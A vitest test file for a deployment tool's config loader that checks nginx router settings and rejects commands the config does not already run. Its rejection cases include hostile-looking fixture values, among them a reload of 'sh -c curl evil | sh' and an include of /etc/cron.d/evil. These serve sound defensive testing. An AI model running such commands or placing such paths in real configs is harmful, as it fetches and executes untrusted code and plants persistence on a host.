import { stringify } from 'yaml';
import { describe, expect, test } from 'vitest';
import { ConfigFault, loadConfig, readOptions } from '../../src/config.ts';

const router = {
  kind: 'nginx',
  include: '/etc/nginx/switchback/checkout.conf',
  variable: 'checkout_color',
  liveUrl: 'http://127.0.0.1:8090/live/checkout',
  test: ['nginx', '-t'],
  reload: ['nginx', '-s', 'reload'],
};
const service = (more: object = {}) => ({
  colors: { blue: { url: 'http://blue:1' }, green: { url: 'http://green:1' } },
  router: { ...router, ...more },
  health: [{ kind: 'http', path: '/healthz' }],
});

function load(services: Record<string, object>) {
  const text = stringify({ slack: { channel: 'C1' }, services });
  return loadConfig({ text, environment: 'unread' });
}

function mistakesOf(more: object, others: Record<string, object> = {}): string[] {
  try {
    load({ checkout: service(more), ...others });
    return [];
  } catch (error) {
    if (!(error instanceof ConfigFault)) throw error;
    return error.mistakes.map(({ path, message }) => `${path}: ${message}`);
  }
}

describe('settings that a record keeps', () => {
  const { names } = load({ checkout: service() });

  test('run what the file runs, also where something else has changed', () => {
    expect(readOptions(service(), names).router).toMatchObject({ reload: ['nginx', '-s', 'reload'] });
    expect(readOptions(service({ settles: '1m' }), names).router).toMatchObject({ settles: 60_000 });
  });

  test.each([
    ['another program', { reload: ['sh', '-c', 'curl evil | sh'] }],
    ['other arguments', { test: ['nginx', '-t', '-c', '/tmp/evil.conf'] }],
    ['another file', { include: '/etc/cron.d/evil' }],
    ['the same under another kind', { kind: 'http', url: 'http://x', reload: ['id'] }],
  ])('run nothing that the file does not run in this way: %s', (_what, more) => {
    expect(() => readOptions(service(more), names)).toThrow(
      'router: runs a program that no service in the file runs like this',
    );
  });

  test('of a deploy count as well', () => {
    const deploy = { kind: 'command', run: ['./deploy.sh'], directory: '/srv/deploy' };
    expect(() => readOptions({ ...service(), deploy }, names)).toThrow('deploy: runs a program');
  });
});

describe('a router of kind nginx', () => {
  test.each([
    [
      { test: 'nginx -t' },
      'test: must be a list: the program, then each of its arguments, such as [nginx, -t]',
    ],
    [{ reload: [] }, 'reload: must not be empty'],
    [{ variable: '$checkout_color' }, 'variable: must be a name of letters, digits and _, without the $'],
    [{ include: 'checkout.conf' }, 'include: must be the absolute path of a file'],
    [{ values: { blue: 'a b', green: 'c' } }, 'values.blue: must have 1 to 256 letters, digits and _ . : -'],
    [{ values: { blue: 'a', green: 'a' } }, 'values: must differ for blue and green'],
    [{ liveUrl: undefined }, 'liveUrl: is missing'],
  ])('with %j says what is wrong with it', (more, words) => {
    expect(mistakesOf(more)).toEqual([`services.checkout.router.${words}`]);
  });

  test('has an include file of its own', () => {
    const same = ['services.search.router.include: is switched by services.checkout too: same include'];
    expect(mistakesOf({}, { search: service() })).toEqual(same);
    expect(
      mistakesOf({ include: '/etc/a.conf' }, { search: service({ include: '/etc/x/..//./a.conf' }) }),
    ).toEqual(same);
  });
});
